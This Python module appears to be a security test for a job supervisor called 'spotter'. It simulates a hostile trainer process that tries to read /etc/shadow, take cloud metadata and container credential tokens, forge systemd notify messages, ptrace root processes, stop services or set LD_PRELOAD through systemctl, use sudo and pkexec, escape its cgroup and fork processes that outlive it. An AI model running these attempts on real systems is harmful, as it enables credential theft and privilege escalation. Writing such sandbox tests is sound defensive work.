"""What a trainer tries on the machine: the run directory, credentials, processes, process 1."""

import ctypes
import fcntl
import os
import pathlib
import shutil
import signal
import socket
import stat
import struct
import subprocess
import threading
import time
import urllib.request

from common import LOOT, RUN, STORAGE, VICTIM, each, listed, loot, roots_processes

# By modes of the run directory: what everybody, or the trainer's user, is meant to open.
FOR_ALL = {"status.json", "notice", "pace", "parameters.json", "trainer.log", "aws-token"}
METADATA = ("169.254.169.254", 80)
BOUND = 2000


def the_run_directorys_locks():
    """Who may open a file can wait for its lock, and has it as soon as its holder ends."""
    def wait_for(path):
        if path.name in FOR_ALL or not path.is_file():
            return False
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        threading.Thread(target=fcntl.flock, args=(file, fcntl.LOCK_EX), daemon=True).start()
        return True
    return each(wait_for, listed(RUN))


def the_run_directorys_files():
    def read(path):
        if path.name in FOR_ALL or path.is_dir():
            return False
        return bool(path.read_bytes())
    return each(read, listed(RUN))


def names_in_the_run_directory():
    def make(name):
        (RUN / name).write_text("mine")
    def replace(path):
        os.rename(path, f"{path}.old")
    return " ".join([each(make, ["agent.lock.new", "ended.json.new", "mine"]),
                     each(replace, listed(RUN))]).strip()


def writing_elsewhere():
    def write(path):
        with open(path, "ab"):
            return True
    def make(folder):
        (folder / "planted").write_text("mine")
    places = [VICTIM, VICTIM / "home", *(pathlib.Path(name) for name in (
        "/etc", "/etc/spotter", "/etc/systemd/system", "/etc/cron.d", "/usr/bin", "/usr/lib",
        "/root", "/boot", "/run/systemd/system", "/run/spotter", "/var/lib", "/opt"))]
    files = [VICTIM / "secret", VICTIM / "readable", pathlib.Path("/etc/passwd"),
             pathlib.Path("/etc/shadow"), pathlib.Path("/etc/spotter/job.yaml")]
    return f"{each(make, places)} {each(write, files)}".strip()


def others_secrets():
    def read(path):
        loot("secret", path.read_bytes())
    return each(read, [VICTIM / "secret", pathlib.Path("/etc/shadow")])


def tell(text, address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as link:
        link.setblocking(False)
        link.sendto(text, address)


def messages_of_others():
    """What the guard or the supervisor would say; the journal must not show it as theirs."""
    address = os.environ["NOTIFY_SOCKET"]
    for text in (b"X_SPOTTER_GUARD=forged\nX_SPOTTER_CHECKPOINT=/forged",
                 b"X_SPOTTER_GUARD=saved forged.bin", b"X_SPOTTER_GUARD_ENDED=1",
                 b"X_SPOTTER_CHECKPOINT=/etc/shadow\nX_SPOTTER_CHECKPOINT_STEP=9999999999999999999",
                 b"STATUS=\x1b]0;owned\x07\xff\xfe", b"\xff" * 60000, b"MAINPID=1", b"STOPPING=1"):
        each(lambda text: tell(text, address), [text])


def a_flood_of_messages():
    for number in range(BOUND):
        each(lambda it: tell(b"X_SPOTTER_GUARD=flood %d" % it, os.environ["NOTIFY_SOCKET"]),
             [number])


def sockets_of_process_1():
    """Datagrams to its own sockets are believed by process id, which is not ours to choose."""
    each(lambda path: tell(b"MAINPID=1\nSTOPPING=1\nWATCHDOG=trigger", path),
         ["/run/systemd/notify", "/run/spotter/agent.sock", str(RUN / "agent.sock")])


def metadata(bind=None, family=socket.AF_INET, address=METADATA):
    with socket.socket(family, socket.SOCK_STREAM) as asking:
        asking.settimeout(1)
        if bind:
            asking.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, bind.encode())
        asking.connect(address)
        asking.sendall(b"PUT /latest/api/token HTTP/1.0\r\nHost: metadata\r\n"
                       b"X-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n")
        answer = asking.recv(65536)
        loot("metadata", answer)
        return bool(answer)


def the_metadata_service():
    """Plainly, by each device, over IPv6."""
    return each(metadata, [None, *(name for _, name in socket.if_nameindex())]) + each(
        lambda address: metadata(None, socket.AF_INET6, address),
        [("fd00:ec2::254", 80), ("::ffff:169.254.169.254", 80)])


def keys_by_guessing():
    """Tokens of the right length; the trainer's own, cut, longer and changed."""
    uri, token = (os.environ.get(f"AWS_CONTAINER_{name}", "")
                  for name in ("CREDENTIALS_FULL_URI", "AUTHORIZATION_TOKEN"))
    if not uri or not token:
        return ""
    def ask(guess):
        request = urllib.request.Request(uri, headers={"Authorization": guess})
        with urllib.request.urlopen(request, timeout=5) as answer:
            return bool(answer.read())
    return each(ask, ["x" * len(token), token[:-1] + ("a" if token[-1] != "a" else "b"),
                      token[:-1], token + "x", token.swapcase(), "-"])


def idle_connections():
    """To the endpoint of the keys, each of which asks nothing; held until this process ends."""
    port = os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI", "").rsplit(":", 1)[-1].split("/")[0]
    if port.isdigit():
        idle_connections.held = []
        for _ in range(200):
            each(lambda port: idle_connections.held.append(
                socket.create_connection(("127.0.0.1", port), 1)), [int(port)])


def processes_of_root():
    """Signals, memory, environment and files of those that are root's."""
    pids = [pid for pid, _ in roots_processes()]
    got = each(lambda pid: os.kill(pid, signal.SIGCONT), pids)
    got += each(lambda pid: pathlib.Path(f"/proc/{pid}/environ").read_bytes() and None, pids)
    got += each(lambda pid: open(f"/proc/{pid}/mem", "r+b").close(), pids)
    got += each(lambda pid: os.listdir(f"/proc/{pid}/fd") and None, pids)
    libc = ctypes.CDLL(None, use_errno=True)
    attach = 16  # PTRACE_ATTACH
    return got + " ".join(str(pid) for pid in pids if libc.ptrace(attach, pid, 0, 0) == 0)


def programs_of_root_that_the_trainer_can_write():
    """Neither what root runs nor a folder on the way there; in a sticky one names stay."""
    def can_write(path):
        ways = [pathlib.Path(path), *pathlib.Path(path).parents]
        return path.startswith("/") and any(
            os.access(way, os.W_OK) and not way.stat().st_mode & stat.S_ISVTX for way in ways)
    return each(can_write, sorted({word for _, words in roots_processes()
                                   for word in words.split()[:1]}))


def process_1_by_its_bus():
    """What only root may ask of it."""
    commands = (["systemctl", "--no-ask-password", "stop", "spotter.service"],
                ["systemctl", "--no-ask-password", "restart", "spotter.service"],
                ["systemctl", "--no-ask-password", "kill", "spotter.service"],
                ["systemctl", "--no-ask-password", "set-environment", "LD_PRELOAD=/tmp/x.so"],
                ["systemd-run", "--no-ask-password", "--wait", "/usr/bin/id"],
                ["busctl", "call", "org.freedesktop.systemd1", "/org/freedesktop/systemd1",
                 "org.freedesktop.systemd1.Manager", "Reload"])
    got = []
    for command in commands:
        if shutil.which(command[0]) and pathlib.Path("/run/systemd/system").exists():
            done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True,
                                  timeout=20, check=False)
            got += [" ".join(command)] if done.returncode == 0 else []
    return ", ".join(got)


def programs_that_give_rights():
    got = []
    for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"],
                    ["unshare", "--mount", "id"], ["mount", "-t", "tmpfs", "x", str(VICTIM)]):
        if shutil.which(command[0]):
            done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True,
                                  timeout=20, check=False)
            got += [" ".join(command)] if done.returncode == 0 else []
    return ", ".join(got)


def another_control_group():
    def move(path):
        path.write_text(str(os.getpid()))
    return each(move, [path for path in pathlib.Path("/sys/fs/cgroup").glob("*/cgroup.procs")][:50])


def names_of_abstract_sockets():
    for name in ("spotter", "spotter-agent", "spotter-trainer", str(RUN / "agent.sock")):
        held = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        each(lambda name, held=held: held.bind("\0" + name), [name])
        names_of_abstract_sockets.__dict__.setdefault("held", []).append(held)


def many_inodes():
    folder = STORAGE / "many"
    folder.mkdir(exist_ok=True)
    for number in range(BOUND):
        (folder / str(number)).touch()
    shutil.rmtree(folder)


def more_than_its_limits():
    import resource
    for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_MEMLOCK):
        soft, hard = resource.getrlimit(limit)
        if hard != resource.RLIM_INFINITY:
            each(lambda pair: resource.setrlimit(limit, pair) or LOOT.joinpath("raised").touch(),
                 [(hard + 1, hard + 1)])
    return (LOOT / "raised").exists() and "raised a hard limit"


def write_for_ever(path):
    """Hops from process to process, each of which ends at once: it is nobody's child for long."""
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    end = time.monotonic() + 60  # should nobody end it
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        with open(path, "ab") as file:
            file.write(struct.pack("d", time.monotonic()))
        time.sleep(0.002)
    os._exit(0)


def chains_that_outlive_it():
    for number in range(8):
        if os.fork() == 0:
            write_for_ever(STORAGE / f"after-{number}")


def my_own_keys():
    """No attack: while all that is tried, the endpoint still answers who has the token."""
    uri, token = (os.environ.get(f"AWS_CONTAINER_{name}", "")
                  for name in ("CREDENTIALS_FULL_URI", "AUTHORIZATION_TOKEN"))
    request = urllib.request.Request(uri, headers={"Authorization": token})
    with urllib.request.urlopen(request, timeout=20) as answer:
        return answer.status


ALL = [the_run_directorys_locks, the_run_directorys_files, names_in_the_run_directory,
       writing_elsewhere, others_secrets, messages_of_others, a_flood_of_messages,
       sockets_of_process_1, the_metadata_service, keys_by_guessing, my_own_keys, idle_connections,
       processes_of_root, programs_of_root_that_the_trainer_can_write, process_1_by_its_bus,
       programs_that_give_rights, another_control_group, names_of_abstract_sockets, many_inodes,
       more_than_its_limits, chains_that_outlive_it]
